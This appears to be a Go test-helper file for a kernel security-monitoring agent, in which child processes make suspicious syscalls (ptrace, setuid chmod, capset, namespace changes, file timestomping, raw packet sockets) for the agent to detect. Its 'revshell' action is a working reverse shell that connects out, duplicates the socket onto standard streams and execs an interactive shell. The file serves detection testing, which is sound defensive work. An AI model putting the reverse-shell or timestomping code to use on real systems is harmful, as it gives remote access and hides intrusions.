package agent_test

// Helper actions run in child processes of the test binary: the agent drops
// its own process's activity in the kernel, and the agent runs inside the
// test process, so every triggering syscall must come from a child.

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/vigil-sec/vigil/pkg/event"
)

const helperEnv = "VIGIL_TEST_HELPER"

func runHelper(action string, args []string) error {
	switch action {
	case "files":
		return helperFiles(args[0])
	case "openat":
		return helperOpenat(args[0])
	case "net":
		return helperNet()
	case "ptrace":
		return helperPtrace()
	case "sec":
		return helperSec(args[0])
	case "dirs-times-sockets":
		return helperDirsTimesSockets(args[0])
	case "cgroup-exec":
		// Join the cgroup, then exec: the exec event must carry its container.
		if err := os.WriteFile(filepath.Join(args[0], "cgroup.procs"), []byte(strconv.Itoa(os.Getpid())), 0o644); err != nil {
			return err
		}
		return syscall.Exec("/bin/sleep", []string{"sleep", "0.3"}, os.Environ())
	case "revshell":
		// connect, put the socket on stdin/stdout/stderr, exec a shell
		conn, err := net.Dial("tcp4", args[0])
		if err != nil {
			return err
		}
		f, err := conn.(*net.TCPConn).File()
		if err != nil {
			return err
		}
		for fd := 0; fd <= 2; fd++ {
			if err := unix.Dup2(int(f.Fd()), fd); err != nil {
				return err
			}
		}
		return syscall.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())
	case "storm":
		n, _ := strconv.Atoi(args[0])
		for i := 0; i < n; i++ {
			if err := exec.Command("/bin/true").Run(); err != nil {
				return err
			}
		}
		return nil
	}
	return fmt.Errorf("unknown helper action %q", action)
}

func helperFiles(dir string) error {
	a, b := filepath.Join(dir, "a.txt"), filepath.Join(dir, "b.txt")
	if err := os.WriteFile(a, []byte("x"), 0o644); err != nil {
		return err
	}
	if err := os.Rename(a, b); err != nil {
		return err
	}
	if err := unix.Chmod(b, 0o4755); err != nil {
		return err
	}
	if err := os.Symlink("b.txt", filepath.Join(dir, "sym")); err != nil {
		return err
	}
	if err := os.Link(b, filepath.Join(dir, "hard")); err != nil {
		return err
	}
	if err := os.Truncate(b, 0); err != nil {
		return err
	}
	return os.Remove(b)
}

// helperOpenat opens "sub/../secret.txt" relative to a directory fd, and a
// file relative to the cwd.
func helperOpenat(dir string) error {
	dfd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	fd, err := unix.Openat(dfd, "sub/../secret.txt", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	unix.Close(fd)
	if err := os.Chdir(filepath.Join(dir, "sub")); err != nil {
		return err
	}
	return os.WriteFile("cwd-relative.txt", []byte("y"), 0o644)
}

// helperNet binds, listens, connects to itself over IPv4 and accepts, then
// connects to an IPv6 loopback listener.
func helperNet() error {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer ln.Close()
	ln6, err := net.Listen("tcp6", "[::1]:0")
	if err != nil {
		return err
	}
	defer ln6.Close()
	go func() {
		for {
			c, err := ln6.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	fmt.Printf("%d %d\n", ln.Addr().(*net.TCPAddr).Port, ln6.Addr().(*net.TCPAddr).Port)
	c, err := net.Dial("tcp4", ln.Addr().String())
	if err != nil {
		return err
	}
	s, err := ln.Accept()
	if err != nil {
		return err
	}
	s.Close()
	c.Close()
	c6, err := net.Dial("tcp6", ln6.Addr().String())
	if err != nil {
		return err
	}
	c6.Close()
	time.Sleep(50 * time.Millisecond)
	return nil
}

// helperPtrace attaches to a child it starts, prints the child's pid, and
// detaches.
func helperPtrace() error {
	runtime.LockOSThread()
	cmd := exec.Command("/bin/sleep", "5")
	if err := cmd.Start(); err != nil {
		return err
	}
	pid := cmd.Process.Pid
	fmt.Println(pid)
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, 0, nil); err != nil {
		return err
	}
	_ = unix.PtraceDetach(pid)
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	return nil
}

// helperSec makes the security-relevant syscalls one after another.
func helperSec(dir string) error {
	runtime.LockOSThread()
	fd, err := unix.MemfdCreate("vigil-memfd", unix.MFD_CLOEXEC)
	if err != nil {
		return fmt.Errorf("memfd: %w", err)
	}
	unix.Close(fd)
	if err := unix.Prctl(unix.PR_SET_NAME, uintptr(unsafe.Pointer(&[]byte("vigil-renamed\x00")[0])), 0, 0, 0); err != nil {
		return fmt.Errorf("prctl: %w", err)
	}
	if _, _, e := unix.RawSyscall(unix.SYS_SETRESUID, 0, 0, 0); e != 0 {
		return fmt.Errorf("setresuid: %w", e)
	}
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&hdr, &data[0]); err != nil {
		return fmt.Errorf("capget: %w", err)
	}
	if err := unix.Capset(&hdr, &data[0]); err != nil {
		return fmt.Errorf("capset: %w", err)
	}
	if r, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC, 0, 0); e == 0 {
		unix.Close(int(r))
	}
	// bpf(BPF_MAP_CREATE) of a tiny array map named "vigiltest".
	attr := make([]byte, 128)
	binary.LittleEndian.PutUint32(attr[0:], 2) // BPF_MAP_TYPE_ARRAY
	binary.LittleEndian.PutUint32(attr[4:], 4)
	binary.LittleEndian.PutUint32(attr[8:], 4)
	binary.LittleEndian.PutUint32(attr[12:], 1)
	copy(attr[28:], "vigiltest") // map_name
	if r, _, e := unix.Syscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr[0])), 128); e == 0 {
		unix.Close(int(r))
	}
	// A DNS query datagram to port 53 on loopback (nothing needs to answer).
	if err := sendDNS("vigil-test.example.com"); err != nil {
		return fmt.Errorf("dns: %w", err)
	}
	// A private mount namespace with a tmpfs mount.
	if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
		return fmt.Errorf("unshare: %w", err)
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make private: %w", err)
	}
	mnt := filepath.Join(dir, "mnt")
	if err := os.MkdirAll(mnt, 0o755); err != nil {
		return err
	}
	if err := unix.Mount("vigil-tmpfs", mnt, "tmpfs", 0, "size=1m"); err != nil {
		return fmt.Errorf("mount: %w", err)
	}
	if err := unix.Unmount(mnt, 0); err != nil {
		return fmt.Errorf("umount: %w", err)
	}
	nsfd, err := unix.Open("/proc/self/ns/uts", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	if err := unix.Setns(nsfd, unix.CLONE_NEWUTS); err != nil {
		return fmt.Errorf("setns: %w", err)
	}
	unix.Close(nsfd)
	// kill(2) a child with SIGTERM.
	sl := exec.Command("/bin/sleep", "5")
	if err := sl.Start(); err != nil {
		return err
	}
	fmt.Print(sl.Process.Pid)
	_ = unix.Kill(sl.Process.Pid, unix.SIGTERM)
	_ = sl.Wait()
	// The same through pidfd_send_signal (newer kill, pkill, killall) and
	// rt_sigqueueinfo (sigqueue(3)).
	for _, how := range []string{"pidfd", "sigqueue"} {
		sl := exec.Command("/bin/sleep", "5")
		if err := sl.Start(); err != nil {
			return err
		}
		pid := sl.Process.Pid
		fmt.Print(" ", pid)
		switch how {
		case "pidfd":
			fd, err := unix.PidfdOpen(pid, 0)
			if err != nil {
				return fmt.Errorf("pidfd_open: %w", err)
			}
			err = unix.PidfdSendSignal(fd, unix.SIGTERM, nil, 0)
			unix.Close(fd)
			if err != nil {
				return fmt.Errorf("pidfd_send_signal: %w", err)
			}
		case "sigqueue":
			var info [128]byte // siginfo_t: si_signo, si_errno, si_code = SI_QUEUE (-1)
			binary.LittleEndian.PutUint32(info[0:], uint32(unix.SIGTERM))
			binary.LittleEndian.PutUint32(info[8:], 0xffffffff)
			if _, _, errno := unix.Syscall(unix.SYS_RT_SIGQUEUEINFO, uintptr(pid), uintptr(unix.SIGTERM), uintptr(unsafe.Pointer(&info[0]))); errno != 0 {
				return fmt.Errorf("rt_sigqueueinfo: %w", errno)
			}
		}
		_ = sl.Wait()
	}
	fmt.Println()
	// A TCP socket duplicated onto stdin, as reverse shells do.
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer ln.Close()
	sfd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	port := ln.Addr().(*net.TCPAddr).Port
	if err := unix.Connect(sfd, &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return err
	}
	if err := unix.Dup2(sfd, 0); err != nil {
		return err
	}
	return nil
}

// The old date set on files (2001-02-03), in seconds.
const helperPast = 981158400

// atFDCWD is AT_FDCWD as a syscall argument.
var atFDCWD = func() uintptr { fd := unix.AT_FDCWD; return uintptr(fd) }()

// helperDirsTimesSockets makes directories (one below /dev), a regular file
// below /dev, sets file times to a past date four ways and to "now" once,
// and opens a packet socket, an ICMP socket and a TCP one.
func helperDirsTimesSockets(dir string) error {
	if err := unix.Mkdir(filepath.Join(dir, "vigil-newdir"), 0o750); err != nil {
		return fmt.Errorf("mkdir: %w", err)
	}
	dfd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(dfd)
	if err := unix.Mkdirat(dfd, "vigil-at-dir", 0o700); err != nil {
		return fmt.Errorf("mkdirat: %w", err)
	}
	if err := unix.Mkdir("/dev/vigil-test-dir", 0o755); err != nil {
		return fmt.Errorf("mkdir /dev: %w", err)
	}
	_ = unix.Rmdir("/dev/vigil-test-dir")
	if err := os.WriteFile("/dev/vigil-test-file", []byte("x"), 0o600); err != nil {
		return err
	}
	_ = os.Remove("/dev/vigil-test-file")
	null, err := os.OpenFile("/dev/null", os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o666)
	if err != nil {
		return err
	}
	null.Close()

	past := unix.NsecToTimespec(helperPast * 1e9)
	for _, name := range []string{"utimensat", "futimens", "utimes", "utime", "now"} {
		p := filepath.Join(dir, "vigil-times-"+name)
		if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
			return err
		}
		bp, _ := unix.BytePtrFromString(p)
		var errno unix.Errno
		switch name {
		case "utimensat":
			// touch -m -t: the access time left alone
			ts := [2]unix.Timespec{{Nsec: unix.UTIME_OMIT}, past}
			_, _, errno = unix.Syscall6(unix.SYS_UTIMENSAT, atFDCWD, uintptr(unsafe.Pointer(bp)), uintptr(unsafe.Pointer(&ts[0])), 0, 0, 0)
		case "futimens":
			fd, err := unix.Open(p, unix.O_WRONLY, 0)
			if err != nil {
				return err
			}
			ts := [2]unix.Timespec{past, past}
			_, _, errno = unix.Syscall6(unix.SYS_UTIMENSAT, uintptr(fd), 0, uintptr(unsafe.Pointer(&ts[0])), 0, 0, 0)
			unix.Close(fd)
		case "utimes":
			tv := [2]unix.Timeval{{Sec: helperPast}, {Sec: helperPast}}
			_, _, errno = unix.Syscall(unix.SYS_UTIMES, uintptr(unsafe.Pointer(bp)), uintptr(unsafe.Pointer(&tv[0])), 0)
		case "utime":
			ub := [2]int64{helperPast, helperPast}
			_, _, errno = unix.Syscall(unix.SYS_UTIME, uintptr(unsafe.Pointer(bp)), uintptr(unsafe.Pointer(&ub[0])), 0)
		case "now":
			_, _, errno = unix.Syscall6(unix.SYS_UTIMENSAT, atFDCWD, uintptr(unsafe.Pointer(bp)), 0, 0, 0, 0)
		}
		if errno != 0 {
			return fmt.Errorf("%s: %w", name, errno)
		}
	}

	// ETH_P_ALL in network byte order, as sniffers ask.
	if fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300); err == nil {
		unix.Close(fd)
	} else {
		return fmt.Errorf("packet socket: %w", err)
	}
	// Refused unless ping_group_range allows it: a denial is kept too.
	if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP); err == nil {
		unix.Close(fd)
	}
	if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0); err == nil {
		unix.Close(fd)
	}
	fmt.Println(os.Getpid())
	return nil
}

func sendDNS(name string) error {
	// sendto(2) to an address, as glibc's resolver and most tools send.
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, event.EncodeDNSQuery(0x1234, 1, name), 0, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return err
	}
	// Connected sockets (a fresh one each: the ICMP refusal of the last
	// datagram would fail the next send): write(2), then sendmsg(2)
	// without an address.
	connected := func() (int, error) {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
		if err != nil {
			return -1, err
		}
		return fd, unix.Connect(fd, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{127, 0, 0, 1}})
	}
	conn, err := connected()
	if err != nil {
		return err
	}
	_, err = unix.Write(conn, event.EncodeDNSQuery(0x2345, 1, "write."+name))
	unix.Close(conn)
	if err != nil {
		return err
	}
	if conn, err = connected(); err != nil {
		return err
	}
	err = unix.Sendmsg(conn, event.EncodeDNSQuery(0x3456, 16, "msg."+name), nil, nil, 0)
	unix.Close(conn)
	if err != nil {
		return err
	}
	// sendmmsg on an unconnected socket, each message with its address
	// (a connected one would see the first datagram's ICMP refusal fail
	// the second).
	if conn, err = unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0); err != nil {
		return err
	}
	defer unix.Close(conn)
	to := unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: [4]byte{127, 0, 0, 1}}
	binary.BigEndian.PutUint16((*[2]byte)(unsafe.Pointer(&to.Port))[:], 53)
	// sendmmsg(2) with two questions in one call, as glibc asks for A and
	// AAAA: each is its own event.
	a, aaaa := event.EncodeDNSQuery(0x4567, 1, "mmsg."+name), event.EncodeDNSQuery(0x4568, 28, "mmsg."+name)
	iov := []unix.Iovec{{Base: &a[0]}, {Base: &aaaa[0]}}
	iov[0].SetLen(len(a))
	iov[1].SetLen(len(aaaa))
	type mmsghdr struct {
		hdr unix.Msghdr
		len uint32
		_   [4]byte
	}
	vec := make([]mmsghdr, 2)
	for i := range vec {
		vec[i].hdr.Iov = &iov[i]
		vec[i].hdr.SetIovlen(1)
		vec[i].hdr.Name, vec[i].hdr.Namelen = (*byte)(unsafe.Pointer(&to)), unix.SizeofSockaddrInet4
	}
	n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(conn), uintptr(unsafe.Pointer(&vec[0])), 2, 0, 0, 0)
	if errno != 0 || n != 2 {
		return fmt.Errorf("sendmmsg: %d sent, %v", n, errno)
	}
	return nil
}
